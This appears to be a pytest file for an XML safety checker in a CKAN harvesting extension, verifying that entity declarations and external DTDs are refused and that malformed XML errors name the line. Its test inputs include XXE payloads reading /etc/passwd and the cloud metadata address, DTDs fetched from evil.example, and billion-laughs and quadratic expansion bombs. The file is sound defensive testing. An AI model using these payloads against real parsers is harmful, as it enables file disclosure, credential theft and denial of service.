"""Safe XML: entity declarations and external DTDs refused before any parser expands
or fetches anything; malformed XML named by line and column."""
import io
import time

import pytest

from ckanext.provincialstats.harvest.errors import SourceError
from ckanext.provincialstats.harvest.xmlsafe import UnsafeXMLError, check

RDF_OPEN = ('<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
            'xmlns:dct="http://purl.org/dc/terms/">')


def billion_laughs(levels=10):
    entities = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{n} "{("&l%d;" % (n - 1)) * 10}">' for n in range(1, levels))
    return (f'<?xml version="1.0"?><!DOCTYPE rdf:RDF [{entities}]>{RDF_OPEN}'
            f'<rdf:Description rdf:about="x"><dct:title>&l{levels - 1};</dct:title>'
            '</rdf:Description></rdf:RDF>')


@pytest.mark.parametrize("document", [
    # XXE: an external general entity reading a local file
    '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    # ... or a URL (server-side request)
    '<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><r>&x;</r>',
    # a parameter entity pulling in an external DTD
    '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>',
    # an external DTD
    '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>',
    '<!DOCTYPE r PUBLIC "-//EVIL//DTD//EN" "http://evil.example/x.dtd"><r/>',
    # billion laughs and the quadratic blow-up
    billion_laughs(),
    '<!DOCTYPE r [<!ENTITY a "%s">]><r>%s</r>' % ("x" * 100000, "&a;" * 10000),
    # an unparsed entity
    '<!DOCTYPE r [<!NOTATION n SYSTEM "x"><!ENTITY u SYSTEM "y" NDATA n>]><r/>',
], ids=["xxe-file", "xxe-url", "parameter-entity", "external-dtd", "public-dtd",
        "billion-laughs", "quadratic", "unparsed-entity"])
def test_entities_and_external_dtds_are_refused(document):
    started = time.monotonic()
    with pytest.raises(UnsafeXMLError) as raised:
        check(document, "https://feed.example/catalog.rdf")
    assert time.monotonic() - started < 1
    assert raised.value.en.startswith("https://feed.example/catalog.rdf: ")
    assert "root:" not in str(raised.value)


def test_plain_documents_pass_also_as_a_stream_in_chunks():
    document = (f'<?xml version="1.0" encoding="utf-8"?>{RDF_OPEN}'
                + '<rdf:Description rdf:about="x"><dct:title>ข้อมูล</dct:title>'
                  '</rdf:Description>' * 30000 + "</rdf:RDF>")
    check(document)
    check(io.BytesIO(document.encode("utf-8")))
    check('<!DOCTYPE r><r/>')  # a DOCTYPE without declarations is harmless


@pytest.mark.parametrize("document, words", [
    ("<r><a></r>", "line 1"),
    ("<r>\n<a>\n</b></r>", "line 3"),
    ("", "no element found"),
    ("not xml at all", "syntax error"),
])
def test_malformed_xml_names_where(document, words):
    with pytest.raises(SourceError) as raised:
        check(document)
    assert not isinstance(raised.value, UnsafeXMLError)
    assert words in raised.value.en and "not well-formed XML" in raised.value.en
    assert "ไม่ใช่ XML ที่ถูกต้อง" in raised.value.th
